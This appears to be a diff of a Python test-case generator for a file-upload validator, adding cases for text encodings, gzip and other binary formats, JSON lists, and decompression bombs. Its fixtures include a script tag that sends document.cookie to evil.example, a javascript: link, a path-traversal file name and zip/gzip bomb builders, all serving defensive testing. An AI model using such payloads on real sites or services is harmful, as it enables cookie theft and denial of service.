@@ -3,6 +3,7 @@
 Large ones are made when they are asked for. No file of this corpus comes from anywhere else.
 """
 
+import gzip
 import io
 import json
 import zipfile
@@ -18,6 +19,7 @@ READS = ("reads fine",)
 GOOD = "text,label\nA cat naps.,good\nA dog barks.,bad\nA bird sings.,good\nA fish.,bad\n"
 GOOD_TSV = GOOD.replace(",", "\t")
 MIB = 1024**2
+_LONG = ("at most 10,000,000 are allowed",)
 SCRIPT = "<script>fetch('http://evil.example/'+document.cookie)</script>"
 PICTURE = "![x](http://evil.example/x.png) [click](javascript:alert(1))"
 
@@ -100,13 +102,19 @@ def _encodings() -> Iterator[Case]:
     """Text that is not UTF-8, and files that are not text."""
     yield _case("byte order mark", "a.csv", GOOD.encode("utf-8-sig"))
     yield _case("two byte order marks", "a.csv", b"\xef\xbb\xbf" + GOOD.encode("utf-8-sig"))
-    yield _case("UTF-16 with a mark", "a.csv", GOOD.encode("utf-16"), "text in UTF-16")
+    yield _case("UTF-16 with a mark", "a.csv", GOOD.encode("utf-16"))
+    yield _case("UTF-16 without", "a.csv", GOOD.encode("utf-16-le"))
+    yield _case("UTF-16 the other way", "a.csv", GOOD.encode("utf-16-be"))
+    yield _case("UTF-16 that is cut", "a.csv", GOOD.encode("utf-16")[:-1], "is not UTF-16")
     yield _case(
-        "UTF-16 without", "a.csv", GOOD.encode("utf-16-le"), "binary data or text in UTF-16"
+        "half a pair in UTF-16", "a.csv", GOOD.encode("utf-16") + b"\0\xd8a\0", "not UTF-16"
     )
-    yield _case("UTF-32", "a.csv", GOOD.encode("utf-32"), "UTF-16")
-    yield _case("Latin-1", "a.csv", f"{GOOD}café,good\n".encode("latin-1"), "not UTF-8", "line 6")
-    yield _case("Shift JIS", "a.tsv", "text\tlabel\n日本\tx\n".encode("shift-jis"), "not UTF-8")
+    yield _case("UTF-32", "a.csv", GOOD.encode("utf-32"))
+    yield _case("Latin-1", "a.csv", f"{GOOD}café,good\n".encode("latin-1"))
+    yield _case("Shift JIS", "a.tsv", "text\tlabel\n日本です\tx\nねこ\ty\n".encode("shift-jis"))
+    yield _case(
+        "one byte amid UTF-8", "a.csv", f"{GOOD}café €,x\n".encode() + b"\xff,y\n", "line 7"
+    )
     yield _case("a surrogate in UTF-8", "a.csv", b"text,label\n\xed\xa0\x80,x\n", "not UTF-8")
     yield _case("overlong slash", "a.csv", b"text,label\n\xc0\xaf,x\n", "not UTF-8")
     yield _case("cut in a character", "a.csv", GOOD.encode() + b"\xf0\x9f", "not UTF-8")
@@ -114,15 +122,28 @@ def _encodings() -> Iterator[Case]:
     yield _case("NULs in JSONL", "a.jsonl", b'{"text": "a\0"}\n', "binary data")
     yield _case("random bytes", "a.tsv", np.random.default_rng(0).bytes(4096), "binary data")
     yield _case("a program", "a.csv", b"\x7fELF\x02\x01\x01\0rest", "binary data")
-    yield _case("a picture", "a.csv", b"\x89PNG\r\n\x1a\nrest", "not UTF-8")
+    yield _case("a picture", "a.csv", b"\x89PNG\r\n\x1a\nrest", "a picture")
+    yield _case("a picture without its mark", "a.csv", bytes(range(1, 256)) * 8, "binary data")
+    yield _case("a PDF", "a.csv", b"%PDF-1.7\nstream", "a PDF")
+    yield _case("an old Excel", "a.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest", "old Excel")
     yield _case("a pickle", "a.csv", b"\x80\x04\x95\x01\0\0\0N.", "binary data")
-    yield _case("gzip as CSV", "a.csv", b"\x1f\x8b\x08rest", "gzip archive")
+    yield _case("gzip as CSV", "a.csv", b"\x1f\x8b\x08rest", "damaged gzip archive")
+    yield _case("gzip that is cut", "a.csv.gz", gzip.compress(GOOD.encode())[:-9], "damaged gzip")
+    yield _case("gzip of a CSV", "a.csv.gz", gzip.compress(GOOD.encode()))
+    yield _case("two in one gzip", "a.gz", gzip.compress(GOOD.encode()) + gzip.compress(b"a,b\n"))
+    yield _case(
+        "gzip of a gzip", "a.gz", gzip.compress(gzip.compress(GOOD.encode())), "gzip archive"
+    )
+    yield _case("gzip of nothing", "a.gz", gzip.compress(b""), "is empty")
+    yield _case("gzip of a program", "a.gz", gzip.compress(b"\x7fELF\x02\0"), "a program")
     yield _case("zip as CSV", "a.csv", _zipped(GOOD.encode()), "Excel workbook")
-    yield _case("zip as Parquet", "a.parquet", _zipped(GOOD.encode()), "something else")
-    yield _case("Parquet as CSV", "a.csv", _table(text=["a"]), "holds a Parquet file")
-    yield _case("CSV as Parquet", "a.parquet", GOOD, "perhaps text")
-    yield _case("CSV as JSONL", "a.jsonl", GOOD, "line 1", "not valid JSON")
-    yield _case("a page of HTML", "a.jsonl", f"<!DOCTYPE html>{SCRIPT}", "line 1", "not valid JSON")
+    yield _case("zip as Parquet", "a.parquet", _zipped(GOOD.encode()), "Excel workbook")
+    yield _case("Parquet as CSV", "a.csv", _table(text=["a"]))
+    yield _case("CSV as Parquet", "a.parquet", GOOD)
+    yield _case("CSV as JSONL", "a.jsonl", GOOD)
+    yield _case("a page of HTML", "a.jsonl", f"<!DOCTYPE html>{SCRIPT}", "a web page")
+    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 9\n"
+    yield _case("git-lfs pointer", "a.csv", pointer, "git-lfs pointer")
 
 
 def _names() -> Iterator[Case]:
@@ -143,12 +164,12 @@ def _names() -> Iterator[Case]:
     yield _case("long name of wide characters", f"{chr(0x1F600)}{chr(0x20000) * 300}.csv", GOOD)
     yield _case("percent-encoded", "..%2f..%2fevil.csv", GOOD)
     yield _case("upper-case ending", "A.CSV", GOOD)
-    yield _case("no ending", "noend", GOOD, "Unknown file type 'none'")
-    yield _case("two endings", "a.csv.exe", GOOD, "Unknown file type '.exe'")
-    yield _case("long ending", f"a.{'x' * 5000}", GOOD, "Unknown file type")
-    yield _case("empty name", "", GOOD, "Unknown file type")
-    yield _case("Excel", "a.xlsx", _zipped(b"x"), "Unknown file type '.xlsx'")
-    yield _case("compressed CSV", "a.csv.gz", b"\x1f\x8b", "Unknown file type '.gz'")
+    yield _case("no ending", "noend", GOOD)
+    yield _case("two endings", "a.csv.exe", GOOD)
+    yield _case("long ending", f"a.{'x' * 5000}", GOOD)
+    yield _case("empty name", "", GOOD)
+    yield _case("Excel", "a.xlsx", _zipped(b"x"), "Excel workbook")
+    yield _case("start of a gzip", "a.csv.gz", b"\x1f\x8b", "damaged gzip archive")
 
 
 def _markup() -> Iterator[Case]:
@@ -168,7 +189,17 @@ def _markup() -> Iterator[Case]:
 
 def _jsonl() -> Iterator[Case]:
     """Lines that are no object, odd values, and mixed types."""
-    yield _case("a list", "a.jsonl", '[{"text": "a"}]', "line 1", "a list and not an object")
+    yield _case("a list", "a.jsonl", '[{"text": "a"}]')
+    yield _case("a list of lists", "a.jsonl", '[["a"]]', "line 1", "a list and not an object")
+    yield _case("a list that ends early", "a.json", '[{"text": "a"}, {"text": "b"', "ends within")
+    yield _case("a list of this and that", "a.json", '[{"text": "a"}, "b"]', "row 2", "no object")
+    yield _case("two lists", "a.json", '[{"a": "b"}]\n[{"a": "c"}]', "row 2", "in a second list")
+    named = '{"train": [{"a": "b"}], "test": [{"a": "c"}]}'
+    yield _case("two named lists", "a.json", named, "row 2", "in a second list")
+    yield _case("words between objects", "a.json", '[{"a": "b"} and {"a": "c"}]', "row 2")
+    yield _case(
+        "objects over lines", "a.json", '{\n"text": "a}",\n"label": 1\n}\n{\n"text": "b"}\n'
+    )
     yield _case("a number", "a.jsonl", '{"text": "a"}\n1\n', "line 2", "a int and not an object")
     yield _case("cut off", "a.jsonl", '{"text": "a"}\n{"text": \n', "line 2", "not valid JSON")
     yield _case("twice a key", "a.jsonl", '{"text": "a", "text": "b"}', "one of its keys twice")
@@ -266,13 +297,27 @@ def _bombs() -> Iterator[Case]:
         "zip bomb as Parquet",
         "a.parquet",
         lambda: _zipped(bytes(64 * MIB)),
-        ("something else",),
+        ("zip archive",),
         bomb=True,
     )
     yield Case(
         "zip bomb as CSV", "a.csv", lambda: _zipped(bytes(64 * MIB)), ("zip archive",), bomb=True
     )
-    yield Case("gzip bomb as CSV", "a.csv", _gzip_bomb, ("gzip archive",), bomb=True)
+    yield Case("gzip bomb as CSV", "a.csv", _gzip_bomb, ("unpacks to more than 200 MB",), bomb=True)
+    yield Case(
+        "list of 10^6 lists",
+        "a.json",
+        lambda: _lists(10**6),
+        ("2,000,000 values in lists",),
+        bomb=True,
+    )
+    yield Case(
+        "string without end", "a.json", lambda: b'[{"a": "' + b"a" * 11 * MIB, _LONG, bomb=True
+    )
+    yield Case(
+        "number without end", "a.json", lambda: b'[{"a": ' + b"1" * 11 * MIB, _LONG, bomb=True
+    )
+    yield Case("parts in each row", "a.jsonl", _new_parts, READS, bomb=True)
 
 
 def _lines(*rows: dict) -> str:
@@ -288,7 +333,15 @@ def _zipped(content: bytes) -> bytes:
 
 def _gzip_bomb() -> bytes:
     packer = zlib.compressobj(9, wbits=31)
-    return packer.compress(bytes(64 * MIB)) + packer.flush()
+    return packer.compress(bytes(250 * MIB)) + packer.flush()
+
+
+def _lists(number: int) -> bytes:
+    return b'[{"a": [' + b"[]," * number + b"[]]}," + b'{"a": [' + b"[]," * number + b"[]]}]"
+
+
+def _new_parts() -> bytes:
+    return _lines(*({"text": f"a {i}", "about": {f"k{i}": 0}} for i in range(2000))).encode()
 
 
 def _written(table: pa.Table, **options) -> bytes:
